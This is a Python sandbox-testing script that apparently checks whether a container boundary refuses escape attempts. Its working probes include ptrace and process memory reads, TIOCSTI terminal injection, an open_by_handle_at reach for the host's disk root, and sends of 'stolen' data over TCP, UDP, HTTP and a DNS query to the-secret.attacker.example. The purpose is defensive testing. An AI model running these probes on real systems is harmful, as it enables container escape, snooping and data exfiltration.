# SPDX-License-Identifier: Apache-2.0
"""The attempts of hostile.sh that need a system call: `attempt.py NAME ARGUMENT…`.

Exit status 0 when it worked, 1 when it was refused, 70 when the attempt itself broke. Run inside the boundary only.
Nothing here damages anything if it works: it opens, it does not destroy.
"""
import ctypes
import os
import platform
import socket
import struct
import sys

X86 = platform.machine() == "x86_64"
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {"ptrace": (101, 117), "finit_module": (313, 273), "keyctl": (250, 219), "bpf": (321, 280),
           "userfaultfd": (323, 282), "io_uring_setup": (425, 425), "clone3": (435, 435), "mount": (165, 40),
           "process_vm_readv": (310, 270), "open_by_handle_at": (304, 265)}
TIOCSTI = 0x5412
BROKE = 70


def call(name, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(NUMBERS[name][0 if X86 else 1]), *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def try_mount():
    call("mount", b"none", b"/tmp", b"tmpfs", ctypes.c_ulong(0), None)


def try_clone3():
    arguments = struct.pack("=8Q", 0x10000000 | 0x00020000, 0, 0, 0, 17, 0, 0, 0)
    if call("clone3", ctypes.c_char_p(arguments), ctypes.c_size_t(len(arguments))) == 0:
        os._exit(0)


def try_kill(pid):
    os.kill(int(pid), 0)


def try_ptrace(pid):
    call("ptrace", ctypes.c_long(16), ctypes.c_long(int(pid)), None, None)


def try_vm_read(pid):
    buffer = ctypes.create_string_buffer(16)
    local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 16)
    remote = (ctypes.c_size_t * 2)(0x400000, 16)
    one, none = ctypes.c_ulong(1), ctypes.c_ulong(0)
    call("process_vm_readv", ctypes.c_long(int(pid)), local, one, remote, one, none)


def try_unix(path):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(path)


def try_abstract(name):
    try_unix("\0" + name)


def try_finit_module():
    call("finit_module", ctypes.c_int(0), b"", ctypes.c_int(0))


def try_bpf():
    attributes = ctypes.create_string_buffer(struct.pack("=IIIII", 2, 4, 4, 1, 0), 128)
    call("bpf", ctypes.c_int(0), attributes, ctypes.c_uint(128))


def try_io_uring():
    call("io_uring_setup", ctypes.c_uint(1), ctypes.create_string_buffer(120))


def try_userfaultfd():
    call("userfaultfd", ctypes.c_int(1))


def try_keyctl():
    call("keyctl", ctypes.c_int(0), ctypes.c_int(-3), ctypes.c_int(1))   # KEYCTL_GET_KEYRING_ID of the session


def try_tiocsti():
    for request in (TIOCSTI, TIOCSTI | 1 << 32):
        for fd in (0, 1, 2):
            ctypes.set_errno(0)
            if libc.syscall(ctypes.c_long(16 if X86 else 29), ctypes.c_int(fd), ctypes.c_ulong(request), b"#") == 0:
                return
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def try_inherited():
    for fd in range(3, 256):
        try:
            if b"demo-secret" in os.pread(fd, 4096, 0):
                print(f"fd {fd}")
                return
        except OSError:
            continue
    raise OSError(9, "no fd beyond 0, 1, 2 is open")


def try_handle():
    handle = struct.pack("=Ii", 8, 1) + struct.pack("=Q", 2)     # inode 2: the root of the host's disk
    mount = os.open("/usr", os.O_RDONLY)
    call("open_by_handle_at", ctypes.c_int(mount), ctypes.c_char_p(handle), ctypes.c_int(os.O_RDONLY))


def try_tcp(host, port):
    with socket.create_connection((host, int(port)), timeout=3) as sock:
        sock.sendall(b"stolen")


def try_udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        sock.connect((host, int(port)))
        sock.send(b"stolen")
        sock.recv(16)


def try_http(port):
    with socket.create_connection(("127.0.0.1", int(port)), timeout=3) as sock:
        sock.sendall(b"GET /?stolen HTTP/1.0\r\n\r\n")
        if not sock.recv(16):
            raise OSError("no answer")


def try_route(host):
    """Whether a packet would leave, found out without sending one: connect() of a UDP socket asks for a route."""
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((host, 53))


GATE = "198.18.0.1"   # atoll's own resolver inside, which asks nobody


def ask_gate():
    """What the gate says to a name that carries something out: it must not know it."""
    labels = b"".join(bytes([len(label)]) + label for label in (b"the-secret", b"attacker", b"example"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.connect((GATE, 53))
        sock.send(b"\0\7\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1")
        if sock.recv(512)[3] & 15 == 3:
            raise OSError("no such name: the gate asks nobody about it")


def try_dns():
    """A name looked up is a message sent. Is there a resolver that could be asked?"""
    resolvers = ["127.0.0.53"]
    if os.path.exists("/etc/resolv.conf"):
        with open("/etc/resolv.conf", encoding="utf-8", errors="replace") as file:
            resolvers += [line.split()[1] for line in file if line.startswith("nameserver ")]
    for address in resolvers:
        if address.startswith("127."):
            with socket.socket(socket.AF_INET) as sock:
                sock.settimeout(2)
                if sock.connect_ex((address, 53)) == 0:
                    return
        elif address == GATE:
            return ask_gate()
        else:
            try:
                return try_route(address)
            except OSError:
                continue
    raise OSError("no resolver can be reached")


def try_raw():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()


def try_vsock():
    with socket.socket(40, socket.SOCK_STREAM) as sock:
        sock.settimeout(2)
        sock.connect((2, 1024))


def main():
    try:
        globals()["try_" + sys.argv[1]](*sys.argv[2:])
    except OSError as error:
        print(error.strerror or error)
        return 1
    except Exception as error:   # an attempt that broke has proved nothing, and must not look refused
        print(f"{type(error).__name__}: {error}")
        return BROKE
    return 0


if __name__ == "__main__":
    sys.exit(main())
